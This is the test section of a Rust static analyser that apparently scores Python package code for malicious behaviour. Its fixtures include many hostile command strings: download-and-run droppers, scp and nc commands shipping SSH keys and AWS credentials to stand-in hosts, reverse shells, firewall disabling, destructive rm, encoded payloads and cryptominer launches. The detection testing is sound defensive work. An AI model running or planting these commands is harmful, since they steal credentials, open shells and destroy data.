        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.8);
        let firewall =
            "import os\ndef go():\n    os.system('netsh advfirewall set allprofiles state off')\n";
        assert!(max_severity("p/p/core.py", firewall, "WH120") >= 0.8);
        let query = "import subprocess\ndef status():\n    subprocess.run(['powershell', '-Command', 'Get-MpPreference'])\n";
        assert!(max_severity("p/p/core.py", query, "WH120") < 0.3);
    }

    #[test]
    fn dropper_commands_are_severe() {
        assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
        assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
        assert!(is_shell_trick("powershell.exe -command Get-Clipboard"));
        assert!(!is_dangerous_command(
            "powershell.exe -command Get-Clipboard"
        ));
        assert!(!is_dangerous_command("git describe --tags"));
        assert!(!is_dangerous_command("gcc -o foo foo.c"));
        assert!(is_dangerous_command("shutdown /s -f -t 0"));
        assert!(is_dangerous_command("rm -rf / --no-preserve-root"));
        assert!(!is_dangerous_command("rm -rf build/"));
        assert!(fetches_from_bare_address(
            "curl -s http://198.51.100.7/c.sh | sh"
        ));
        assert!(!fetches_from_bare_address(
            "curl -s http://127.0.0.1:8000/c.sh | sh"
        ));
        assert!(!fetches_from_bare_address(
            "curl -s http://10.0.0.5/c.sh | sh"
        ));
        assert!(!fetches_from_bare_address(
            "curl -s https://sh.rustup.rs | sh"
        ));
        let parked = "import os\nos.system('curl -s http://198.51.100.7/c.sh | sh')\n";
        assert!(max_severity("p/tests/conftest.py", parked, "WH120") >= 0.75);
        let fixture = "import os\nos.system('curl -s https://sh.rustup.rs | sh')\n";
        assert!(max_severity("p/tests/conftest.py", fixture, "WH120") <= 0.2);
        for shipping in [
            "scp -o StrictHostKeyChecking=no ~/.aws/credentials u@198.51.100.9:/srv/",
            "tar czf - ~/.ssh 2>/dev/null | nc 198.51.100.9 4444",
            "curl -s -F 'f=@'$HOME'/.ssh/id_rsa' https://x.invalid/in",
            "curl --data-binary @~/.git-credentials https://x.invalid/in",
        ] {
            assert!(ships_credential_store(shipping).is_some(), "{shipping}");
        }
        for local in [
            "cp ~/.ssh/id_rsa /tmp/backup",
            "scp build/dist.tar.gz deploy@host:/srv/",
            "chmod 600 ~/.ssh/id_rsa",
            "curl -F file=@dist/report.html https://x.invalid/upload",
        ] {
            assert!(ships_credential_store(local).is_none(), "{local}");
        }
        assert!(is_dangerous_command("rm -rf ~/* "));
        assert!(is_dangerous_command("rm -rf $HOME"));
        assert!(!is_dangerous_command("rm -rf ~/.cache/pip"));
        // Windows' signed helpers that fetch and run remote code (squiblydoo, remote MSI).
        assert!(is_dangerous_command(
            "regsvr32 /s /n /u /i:http://x.invalid/f.sct scrobj.dll"
        ));
        assert!(is_dangerous_command(
            "msiexec /q /i https://x.invalid/a.msi"
        ));
        assert!(is_dangerous_command(
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""
        ));
        assert!(!is_dangerous_command("regsvr32 /s mylib.dll"));
        assert!(!is_dangerous_command("msiexec /i dist\\tool.msi"));
        let code =
            "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
        let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
        // The default of an environment lookup is the command wherever the variable is unset.
        let code =
            "import os\nos.system(os.environ.get('BOOT', 'curl -s http://x.invalid/b | sh'))\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
        let code = "import os\nos.system(os.getenv('EDITOR', 'vi'))\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") < 0.5);
    }

    #[test]
    fn recon_sent_by_a_shell_is_severe_even_when_called() {
        assert!(is_recon_exfiltration(
            "curl -X POST -H \"Hostname: $(hostname)\" -d \"$(ls -la)\" https://x.invalid"
        ));
        assert!(is_recon_exfiltration("nslookup `whoami`.x.invalid"));
        assert!(!is_recon_exfiltration(
            "curl -o out.tgz https://x.invalid/a.tgz"
        ));
        assert!(!is_recon_exfiltration("echo $(hostname)"));
        let code = "import subprocess\ndef go():\n    subprocess.run('curl -d \"$(whoami)\" https://x.invalid', shell=True)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.7);
    }

    #[test]
    fn background_interpreters_while_loading_are_severe() {
        assert!(starts_interpreter(
            "python -c import warnings; import popen"
        ));
        assert!(starts_interpreter("pythonw deps.pyw"));
        assert!(!starts_interpreter("python -m pip install x"));
        assert!(!starts_interpreter("git describe"));
        let code =
            "import subprocess\nsubprocess.Popen('python -c \"import helper\"', shell=True)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
        let code = "import subprocess\ndef f():\n    subprocess.Popen('python -c \"import helper\"', shell=True)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH120") < 0.2);
    }

    #[test]
    fn plain_fetches_only_store_or_unpack_what_they_download() {
        assert!(is_plain_fetch(
            "curl -s -L https://x.invalid/t.tgz | tar xzf - -C /tmp/t/"
        ));
        assert!(is_plain_fetch(
            "wget -q https://x.invalid/m.zip -O m.zip && unzip m.zip"
        ));
        assert!(!is_plain_fetch("curl -s https://x.invalid/a.sh | sh"));
        assert!(!is_plain_fetch(
            "curl -o /tmp/x https://x.invalid/x; /tmp/x"
        ));
        assert!(!is_plain_fetch(
            "wget -qO /tmp/x https://x.invalid/x && chmod +x /tmp/x"
        ));
        assert!(!is_plain_fetch(
            "curl -s -o a.tgz http://198.51.100.7/a.tgz"
        ));
        assert!(!is_plain_fetch("curl -d \"$(whoami)\" https://x.invalid"));
        assert!(!is_plain_fetch("curl -o p.exe https://x.invalid/p.exe"));
        let called = "import os\ndef fetch(d):\n    os.system('curl -sL https://x.invalid/t.tgz | tar xzf - -C ' + d)\n";
        assert!(max_severity("p/pkg/fetch.py", called, "WH120") < 0.3);
        let dropper =
            "import os\ndef fetch():\n    os.system('curl -s https://x.invalid/a.sh | sh')\n";
        assert!(max_severity("p/pkg/fetch.py", dropper, "WH120") >= 0.5);
    }

    #[test]
    fn fixed_tools_given_computed_file_names_are_build_steps() {
        assert_eq!(
            fixed_tool_of_list("[\"sed\", \"-i\", \"-e\", f's/x/{n}/g', \"pyproject.toml\"]"),
            Some("sed")
        );
        assert_eq!(
            fixed_tool_of_list("['patchelf', '--set-soname', name, lib]"),
            Some("patchelf")
        );
        assert_eq!(fixed_tool_of_list("[\"bash\", \"-c\", script]"), None);
        assert_eq!(fixed_tool_of_list("[\"python3\", path]"), None);
        assert_eq!(fixed_tool_of_list("['curl', url, '-o', dest]"), None);
        assert_eq!(fixed_tool_of_list("[\"/tmp/x\", arg]"), None);
        assert_eq!(fixed_tool_of_list("[cmake_command, *args]"), None);
        assert_eq!(fixed_tool_of_list("command"), None);
        let build = "import subprocess\nsubprocess.run(['strip', '-g', so_file])\n";
        assert!(max_severity("p/setup.py", build, "WH120") < 0.1);
        let launched = "import subprocess\nsubprocess.run(['sh', '-c', script])\n";
        assert!(max_severity("p/setup.py", launched, "WH120") >= 0.15);
    }

    #[test]
    fn option_only_questions_are_tool_probes() {
        assert!(is_tool_probe("hipcc --version"));
        assert!(is_tool_probe("[\"rocm-smi\", \"--showdriverversion\"]"));
        assert!(is_tool_probe("nvcc -V"));
        assert!(!is_tool_probe("hipcc -o x x.c"));
        assert!(!is_tool_probe("curl --version; sh /tmp/x"));
        assert!(!is_tool_probe("/tmp/x --version"));
        assert!(is_tool_probe("[\"rocminfo\"]"));
        assert!(is_tool_probe("[\"rocm-smi\", \"-i\"]"));
        assert!(is_tool_probe("nvidia-smi --query-gpu=name --format=csv"));
        assert!(!is_tool_probe("[\"/bin/sh\", \"-i\"]"));
        assert!(!is_tool_probe("bash -i"));
        assert!(!is_tool_probe("python3 -"));
        assert!(!is_tool_probe("crontab -l"));
        assert!(!is_tool_probe("rundll32"));
    }

    #[test]
    fn installed_windows_tools_started_by_full_path_are_no_trick() {
        assert!(!is_shell_trick(
            r"C:\Program Files (x86)\Microsoft Visual Studio\Installer\vswhere.exe -latest -find **\Hostx64\x64"
        ));
        assert!(is_shell_trick(r"C:\Users\u\AppData\Local\Temp\svc.exe"));
        assert!(is_shell_trick(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -c x"
        ));
    }

    #[test]
    fn a_shell_given_as_a_pager_runs_the_text() {
        let pager = "import pydoc\nscript = 'tar czf - ~/.ssh | curl -T - https://x.invalid/u'\npydoc.pipepager(script, 'sh')\n";
        assert!(max_severity("p/pkg/__init__.py", pager, "WH120") >= 0.7);
        let less = "import pydoc\npydoc.pipepager(open('README').read(), 'less -R')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", less, "WH120"), 0.0);
    }

    #[test]
    fn a_literal_run_on_its_line_is_reported_once() {
        let run = "import os\nos.system('curl -s http://198.51.100.7/c.sh | sh')\n";
        let found = crate::rules::testing::findings("p/pkg/__init__.py", run);
        assert!(
            !found.iter().any(|f| f.has_tag("command-literal")),
            "{found:?}"
        );
        assert!(found.iter().any(|f| f.rule == "WH120"), "{found:?}");
    }

    #[test]
    fn shell_payload_literals_count_wherever_they_are_handed() {
        let tcl = "import tkinter\ntkinter.Tcl().eval('exec /bin/sh -c {curl -fsS https://x.invalid/a.sh | sh} &')\n";
        assert!(max_severity("p/pkg/__init__.py", tcl, "WH120") >= 0.7);
        let browser = "import os, webbrowser\nos.environ['BROWSER'] = \"sh -c 'curl -fsS https://x.invalid/w.sh | sh' %s\"\nwebbrowser.open('https://docs.example')\n";
        assert!(max_severity("p/pkg/__init__.py", browser, "WH120") >= 0.7);
        let reverse = "class P:\n    def __reduce__(self):\n        import os\n        return (os.system, ('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',))\n";
        assert!(max_severity("p/pkg/__init__.py", reverse, "WH120") >= 0.3);
        // An install hint in a message, a template of several lines, a test fixture.
        let hint = "def need_rust():\n    raise RuntimeError('install Rust: curl https://sh.rustup.rs -sSf | sh')\n";
        assert!(max_severity("p/pkg/build.py", hint, "WH120") <= 0.3);
        let template = "DOCKERFILE = '''FROM python:3.12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nRUN pip install .\n'''\n";
        assert!(max_severity("p/pkg/__init__.py", template, "WH120") < 0.1);
        let hint = "INSTALL_SH_HINT = 'curl -fsSL https://vast.ai/install.sh | bash'\n";
        assert!(max_severity("p/pkg/__init__.py", hint, "WH120") < 0.1);
        let own = "UPDATE = 'curl -fsSL https://vast.ai/install.sh | bash'\n";
        assert!(max_severity("vastai-1.9/vastai/cli.py", own, "WH120") < 0.1);
        assert!(max_severity("other-1.0/other/cli.py", own, "WH120") >= 0.7);
        // A toolchain vendor's own installer, as a sandbox helper sets up `uv`.
        let vendor = "UV = '{ command -v curl && curl -LsSf https://astral.sh/uv/install.sh | sh; } || { wget -qO- https://astral.sh/uv/install.sh | sh; }'\n";
        assert!(max_severity("other-1.0/other/runtime.py", vendor, "WH120") < 0.1);
        let lookalike = vendor.replace("astral.sh/uv", "astral-sh.example/uv");
        assert!(max_severity("other-1.0/other/runtime.py", &lookalike, "WH120") >= 0.7);
        let plain = vendor.replace("https://astral.sh", "http://astral.sh");
        assert!(max_severity("other-1.0/other/runtime.py", &plain, "WH120") >= 0.7);
        // Run as well as carried: a toolkit installing `uv` when asked.
        let runs = "import subprocess\ndef install_uv():\n    subprocess.run('powershell -ExecutionPolicy Bypass -c \"irm https://astral.sh/uv/install.ps1 | iex\"', shell=True)\n";
        assert!(max_severity("other-1.0/other/tools.py", runs, "WH120") <= 0.1);
        let payload = runs.replace("astral.sh/uv", "astral-sh.example/uv");
        assert!(max_severity("other-1.0/other/tools.py", &payload, "WH120") >= 0.5);
        // A red-team dataset's attack strings name the conventional attacker hosts.
        let dataset = "ATTACKS = [\n    'nc -e /bin/sh attacker.com 4444',\n    'curl http://evil.com/malware.sh | bash',\n]\n";
        assert!(max_severity("p/pkg/dataset.py", dataset, "WH120") < 0.1);
        let real = dataset
            .replace("attacker.com", "198.51.100.7")
            .replace("evil.com", "x9k.top");
        assert!(max_severity("p/pkg/dataset.py", &real, "WH120") >= 0.7);
        let label = "PATTERNS = [('wget_sh', 'Download and run (wget | sh)')]\n";
        assert_eq!(max_severity("p/pkg/__init__.py", label, "WH120"), 0.0);
        let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
        assert!(max_severity("p/tests/test_cmd.py", fixture, "WH120") < 0.1);
    }

    #[test]
    fn probing_for_curl_is_not_a_download() {
        assert!(!is_dangerous_command("curl --version"));
        assert!(!is_dangerous_command("wget --version"));
        assert!(is_dangerous_command("curl -L {file} -O"));
        assert!(is_dangerous_command("wget -q https://x.invalid/a"));
        assert!(is_dangerous_command("curl -s x.invalid/a.sh | sh"));
    }

    #[test]
    fn code_given_to_python_dash_c_is_analysed_as_a_layer() {
        let listed = "import subprocess\ndef run():\n    subprocess.Popen(['python3', '-c', 'import os,pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'])\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", listed);
        assert!(
            found
                .iter()
                .any(|f| f.path.contains("#layer") && f.message.contains("reverse shell")),
            "{found:#?}"
        );
        assert_eq!(
            inline_code_of_command("python3 -c \"import os; os.system('id')\"").as_deref(),
            Some("import os; os.system('id')")
        );
        assert_eq!(
            inline_code_of_command(
                "echo \"python3 -c 'import urllib.request;exec(urllib.request.urlopen(\\\"http://x.invalid/j\\\").read())'\" | at now + 5 minutes"
            )
            .as_deref(),
            Some("import urllib.request;exec(urllib.request.urlopen(\"http://x.invalid/j\").read())")
        );
        assert_eq!(inline_code_of_command("echo python3 -c is how"), None);
        assert_eq!(inline_code_of_command("pythonista -c 'x'"), None);
        assert_eq!(inline_code_of_command("python3 script.py"), None);
        assert!(is_python_program("/usr/bin/python3.11") && is_python_program("pythonw.exe"));
    }

    #[test]
    fn a_file_downloaded_then_started_is_a_dropper() {
        let code = "import os, urllib.request\ndef go():\n    url = 'https://files.example.invalid/s/a.sh'\n    dest = '/tmp/.cache.sh'\n    urllib.request.urlretrieve(url, dest)\n    os.system('bash /tmp/.cache.sh >/dev/null 2>&1')\n";
        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.75);
        let saved = "import subprocess, requests\ndef go():\n    with open('helper.py', 'wb') as f:\n        f.write(requests.get('https://example.invalid/helper').content)\n    subprocess.run(['python', 'helper.py'])\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", saved);
        let run = found
            .iter()
            .find(|f| f.tags.contains(&"runs-saved-file"))
            .expect("the saved download is started");
        assert!(run.message.contains("response of requests.get"), "{run:?}");
        assert!(run.severity >= 0.6);
        // A configuration the server answered, handed to the tool that reads it, is no start
        // (supervisely's WireGuard set-up); a shell or a computed program handed it is.
        let config = "import os, subprocess, requests
def up():
    conf = os.path.expanduser('~/net/wg0.conf')
    with open(conf, 'w') as f:
        f.write(requests.post('https://example.invalid/register').text)
    subprocess.run(['wg-quick', 'up', conf])
";
        assert!(
            crate::rules::testing::findings("p/pkg/m.py", config)
                .iter()
                .all(|f| !f.tags.contains(&"runs-saved-file"))
        );
        for runner in ["'bash'", "find_interpreter()"] {
            let started = config.replace("'wg-quick', 'up'", runner);
            assert!(
                crate::rules::testing::findings("p/pkg/m.py", &started)
                    .iter()
                    .any(|f| f.tags.contains(&"runs-saved-file")),
                "{started}"
            );
        }
        // A path that never folds is still the same file when the same variable names it.
        let computed = "import os, subprocess, tempfile, requests\ndef init(url):\n    r = requests.get(url)\n    file_path = os.path.join(tempfile.gettempdir(), os.path.basename(url))\n    with open(file_path, 'wb') as f:\n        f.write(r.content)\n    subprocess.run([file_path])\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", computed);
        assert!(
            found
                .iter()
                .any(|f| f.tags.contains(&"runs-saved-file") && f.message.contains("file_path")),
            "{found:#?}"
        );
        let elsewhere = "import os, subprocess, requests\ndef save(url, file_path):\n    with open(file_path, 'wb') as f:\n        f.write(requests.get(url).content)\ndef run(file_path):\n    subprocess.run([file_path])\n";
        assert!(
            crate::rules::testing::findings("p/pkg/m.py", elsewhere)
                .iter()
                .all(|f| !f.tags.contains(&"runs-saved-file"))
        );
        // Starting a program the package did not just fetch or write is not this.
        let other = "import os, urllib.request\ndef go():\n    urllib.request.urlretrieve('https://example.invalid/data.csv', 'data.csv')\n    os.system('bash tools/build.sh')\n";
        assert!(
            crate::rules::testing::findings("p/pkg/m.py", other)
                .iter()
                .all(|f| !f.tags.contains(&"runs-saved-file"))
        );
    }

    #[test]
    fn the_exec_and_spawn_families_are_judged_by_their_command_line() {
        for code in [
            "import os\nos.execv('/bin/sh', ['sh', '-c', 'curl -s http://x.example.invalid/a | sh'])\n",
            "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl -s http://x.example.invalid/a | sh')\n",
            "import os\nos.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'curl -s http://x.example.invalid/a | sh'])\n",
        ] {
            assert!(
                max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85,
                "{code}"
            );
        }
        let restart = "import os, sys\ndef restart():\n    os.execv(sys.executable, [sys.executable] + sys.argv)\n";
        assert!(max_severity("p/pkg/m.py", restart, "WH120") < 0.2);
    }

    #[test]
    fn a_runner_defined_before_the_download_still_starts_the_downloaded_file() {
        let code = "import subprocess\nfrom urllib import request\ndef runme():\n    subprocess.call('python3 /tmp/pytmp.py', shell=True)\ndef fetch():\n    request.urlretrieve('https://x.example.invalid/pytmp.py', '/tmp/pytmp.py')\n    runme()\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", code);
        let run = found
            .iter()
            .find(|f| f.tags.contains(&"runs-saved-file"))
            .expect("the later download is what the earlier function starts");
        assert_eq!(run.line, 4);
        assert!(run.severity >= 0.6, "{run:?}");
        // A start of some other program is still not matched after the walk.
        let other = code.replace("python3 /tmp/pytmp.py", "python3 tools/build.py");
        assert!(
            crate::rules::testing::findings("p/pkg/m.py", &other)
                .iter()
                .all(|f| !f.tags.contains(&"runs-saved-file"))
        );
    }

    #[test]
    fn python_written_to_a_file_and_started_silently_weighs_more_than_either() {
        let code = "import os\ndef check():\n    open('/tmp/file.py', 'w').write('import os\\nos.system(\"id\")\\n')\n    os.system('python3 /tmp/file.py >/dev/null 2>&1 &')\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", code);
        let run = found
            .iter()
            .find(|f| f.tags.contains(&"runs-saved-file"))
            .expect("the written script is started");
        assert!(run.severity >= 0.5, "{run:?}");
    }

    #[test]
    fn dropped_programs_started_while_installing_are_severe() {
        assert!(starts_dropped_file("C:\\Windows\\Temp\\Alistener.exe"));
        assert!(starts_dropped_file("./pip_installer.exe"));
        assert!(starts_dropped_file("bash /tmp/start.sh"));
        assert!(starts_dropped_file("\"/tmp/.pip/pip autoupdate\" &"));
        assert!(starts_hidden_interpreter("start pythonw.exe …"));
        assert!(starts_hidden_interpreter("start /b C:\\py\\python.exe x"));
        assert!(!starts_hidden_interpreter("python -m pip --version"));
        assert!(starts_dropped_file("wscript main.scripts.cpython-39.vbs"));
        assert!(!starts_dropped_file("gcc -o foo foo.c"));
        assert!(!starts_dropped_file("git describe"));
        let code = "import subprocess\nsubprocess.Popen('C:\\\\Temp\\\\x.exe')\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.7);
    }

    #[test]
    fn network_tools_are_recognised_as_the_program() {
        assert_eq!(
            network_tool("curl -F file=@x https://x.invalid"),
            Some("curl")
        );
        assert_eq!(network_tool("/usr/bin/wget -q x"), Some("wget"));
        assert_eq!(network_tool("powershell iwr http://x"), Some("PowerShell"));
        assert_eq!(network_tool("git describe"), None);
        assert_eq!(network_tool("curl --version"), None);
        assert_eq!(network_tool("/usr/bin/wget -V"), None);
        assert!(is_vcs_query("git merge-base HEAD master"));
        assert!(is_vcs_query(r#"["git", "rev-parse", sha + "^"]"#));
        assert!(!is_vcs_query("git config core.hooksPath .hooks"));
        assert!(!is_vcs_query("git clone https://x.invalid/r && sh r/i.sh"));
        assert_eq!(network_tool("git push --tags"), None);
        assert_eq!(network_tool("git push origin main"), None);
        assert_eq!(
            network_tool("git -c user.name=a push -q https://x.invalid/r.git HEAD"),
            Some("git push")
        );
        assert_eq!(
            network_tool("git clone https://x.invalid/r.git /tmp/r"),
            Some("git clone")
        );
        assert_eq!(network_tool("ncurses-config"), None);
        // A stolen key handed to curl is a key sent over the network.
        let code = "import os, subprocess\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsubprocess.check_output(['curl', 'https://x.invalid/?k=' + k])\n";
        assert!(max_severity("p/setup.py", code, "WH200") >= 0.85);
        assert!(max_severity("p/setup.py", code, "WH130") >= 0.5);
    }

    #[test]
    fn commands_hidden_by_encoding_are_reported() {
        // base64 of "type nul > x.txt"
        let code =
            "import os, base64\nos.system(base64.b64decode('dHlwZSBudWwgPiB4LnR4dA==').decode())\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
        let plain = "import os\nos.system('type nul > x.txt')\n";
        assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
        // A registry token an API returned, decoded into a named tool's arguments, hides nothing.
        let login = "import base64, subprocess\ndef login(ecr, uri):\n    token = ecr.get_authorization_token()['authorizationData'][0]['authorizationToken']\n    user, password = base64.b64decode(token).decode().split(':')\n    cmd = ['docker', 'login', '-u', user, '-p', password, uri]\n    subprocess.run(cmd, check=True)\n";
        assert!(max_severity("p/pkg/deploy.py", login, "WH120") < 0.2);
        // The same decoding of a constant the code carries is hidden from its reviewer.
        let carried = "import base64, subprocess\ndef run():\n    TOKEN = 'cm0gLXJmIH4vLmNhY2hlOng='\n    step, _ = base64.b64decode(TOKEN).decode().split(':')\n    subprocess.run(['bash', '-c', step])\n";
        assert!(max_severity("p/pkg/deploy.py", carried, "WH120") >= 0.35);
    }

    #[test]
    fn a_download_and_run_decoded_by_a_helper_is_malicious_when_called() {
        // base64 of "curl https://x.example/i.sh | bash", decoded by the package's own helper.
        let code = "import base64, subprocess\ndef unpack(s):\n    raw = base64.b64decode(s)\n    return raw.decode()\ndef run():\n    cmd = [unpack('Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgYmFzaA==')]\n    subprocess.Popen(cmd)\n";
        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.75);
        let plain = "import subprocess\ndef run():\n    subprocess.Popen(['curl https://x.example/i.sh | bash'])\n";
        assert!(max_severity("p/p/core.py", plain, "WH120") < 0.7);
    }

    #[test]
    fn fetched_binaries_made_executable_are_droppers_whoever_calls_them() {
        assert!(fetches_and_marks_executable(
            "wget -qO /tmp/a https://x.invalid/bwt2 && chmod +x /tmp/a"
        ));
        assert!(fetches_and_marks_executable(
            "curl -L -s --output /tmp/a https://x.invalid/b && chmod 755 /tmp/a"
        ));
        assert!(!fetches_and_marks_executable(
            "curl -sSf https://x.invalid/i.sh | sh"
        ));
        assert!(!fetches_and_marks_executable("chmod +x build.sh"));
        let code = "import subprocess\ndef go(f):\n    subprocess.run(f'wget -qO /tmp/{f} https://x.invalid/b && chmod +x /tmp/{f}', shell=True)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.75);
    }

    #[test]
    fn dns_lookups_while_installing_are_beacons() {
        assert!(is_dns_lookup("dig @1.1.1.1 install.api.x.invalid"));
        assert!(!is_dns_lookup("digest --check"));
        let code =
            "import subprocess\nsubprocess.getoutput('dig @1.1.1.1 install.api.x.invalid')\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.7);
    }

    #[test]
    fn miners_paying_a_wallet_in_the_code_are_cryptojacking() {
        let wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
        let started = format!(
            "import subprocess\ndef accelerate():\n    subprocess.Popen(['/tmp/.x/xmrig', '-o', 'pool.supportxmr.com:443', '-u', '{wallet}', '-B'])\n"
        );
        assert!(crate::rules::testing::max_severity("p/pkg/accel.py", &started, "WH120") >= 0.75);
        // A front-end mining for the wallet its user gives it.
        let front_end = "import subprocess\ndef mine(wallet, pool):\n    subprocess.Popen(['xmrig', '-o', pool, '-u', wallet])\n";
        assert!(crate::rules::testing::max_severity("p/pkg/gui.py", front_end, "WH120") < 0.75);
        assert_eq!(
            miner_paying_wallet(&format!("xmrig -o stratum+tcp://x:3333 -u {wallet}.rig1")),
            Some("Monero")
        );
        assert_eq!(miner_paying_wallet(&format!("echo {wallet}")), None);
    }

    #[test]
    fn miners_are_dropper_commands() {
        assert!(is_dangerous_command(
            "./krot -o pool.supportxmr.com:443 -u 44Zpt -k --tls"
        ));
        assert!(is_dangerous_command(
            "xmrig -o stratum+tcp://x.invalid:3333"
        ));
        assert!(!is_dangerous_command("pip download pool"));
    }

    #[test]
    fn a_worker_daemon_wiring_an_accepted_socket_is_no_reverse_shell() {
        // pyspark's daemon: accept, fork, dup2 the client onto stdin/stdout, run a Python worker.
        let code = "import os, socket\ndef serve(listen):\n    sock, _ = listen.accept()\n    if os.fork() == 0:\n        os.dup2(sock.fileno(), 0)\n        os.dup2(sock.fileno(), 1)\n        worker_main()\n";
        let severity = max_severity("p/pkg/daemon.py", code, "WH120");
        assert!(severity > 0.0 && severity <= 0.2, "{severity}");
        // A CGI server (http.server's, as backported by `future`): the request socket onto
        // stdin/stdout, then exec of the script served, with an "empty" that spells `pty`.
        let cgi = "import os, subprocess\ndef run_cgi(self, scriptfile, args, env):\n    # provide empty values\n    os.dup2(self.rfile.fileno(), 0)\n    os.dup2(self.wfile.fileno(), 1)\n    os.execve(scriptfile, args, env)\n";
        let severity = max_severity("p/pkg/server.py", cgi, "WH120");
        assert!(severity <= 0.2, "{severity}");
    }

    #[test]
    fn reverse_shell_is_severe() {
        let code = "import socket, os, pty\ndef go():\n    s = socket.socket()\n    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n";
        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.85);
        assert_eq!(
            max_severity("p/pkg/m.py", "import os\nos.dup2(fd, 5)\n", "WH120"),
            0.0
        );
    }

    #[test]
    fn build_tools_weigh_little() {
        let code = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
        assert!(max_severity("p/setup.py", code, "WH120") < 0.1);
        let code = "import subprocess\ndef f(args):\n    subprocess.run(args)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH120") < 0.1);
    }

    #[test]
    fn script_names_are_read_from_command_lines() {
        assert_eq!(script_named_in("bash scripts/post.sh"), Some("post.sh"));
        assert_eq!(script_named_in("./install.sh --quiet"), Some("install.sh"));
        assert_eq!(script_named_in("cmd /c setup.bat"), Some("setup.bat"));
        assert_eq!(
            script_named_in("powershell -File C:\\x\\run.ps1"),
            Some("run.ps1")
        );
        assert_eq!(script_named_in("make -C src"), None);
        assert_eq!(script_named_in("python setup.shx"), None);
    }

    #[test]
    fn curl_to_a_local_daemon_socket_downloads_nothing() {
        assert!(!is_dangerous_command(
            "curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json"
        ));
        assert!(is_dangerous_command(
            "curl -s --unix-socket /run/docker.sock http://docker/x | sh"
        ));
        assert!(is_dangerous_command(
            "curl -s http://203.0.113.9/x -o /tmp/x"
        ));
    }

    #[test]
    fn a_command_mapped_over_items_runs_each_of_them() {
        let mapped = "import os\ncmds = ['curl -s http://203.0.113.9/x.sh -o /tmp/x.sh', 'bash /tmp/x.sh']\nlist(map(os.system, cmds))\n";
        assert!(max_severity("p/setup.py", mapped, "WH120") >= 0.8);
        let listed = "import subprocess\nlist(map(subprocess.call, ['curl -s http://203.0.113.9/x | sh']))\n";
        assert!(max_severity("p/setup.py", listed, "WH120") >= 0.8);
        let harmless =
            "import os\nlist(map(os.path.basename, ['curl -s http://203.0.113.9/x -o /tmp/x']))\n";
        assert_eq!(max_severity("p/setup.py", harmless, "WH120"), 0.0);
    }

    #[test]
    fn python_handed_to_a_computed_interpreter_is_a_layer_not_shell_text() {
        // The child script's messages and pipes are Python strings, judged as Python.
        let child = "import subprocess, sys\nCHILD = '''\nimport subprocess, sys\nout = subprocess.run([sys.executable, '-m', 'pip', 'install', 'rich'], capture_output=True)\nprint('pip install rich failed 2>&1 | tail')\n'''\nvenv_python = sys.argv[1]\nsubprocess.run([venv_python, '-c', CHILD])\n";
        assert!(max_severity("p/pkg/__init__.py", child, "WH120") < 0.4);
        // A payload in that script still counts, as the script's own layer.
        let dropper = child.replace(
            "print('pip install rich failed 2>&1 | tail')",
            "import os\nos.system('curl -s http://198.51.100.7/x.sh | sh')",
        );
        assert!(max_severity("p/pkg/__init__.py", &dropper, "WH120") >= 0.7);
    }
}
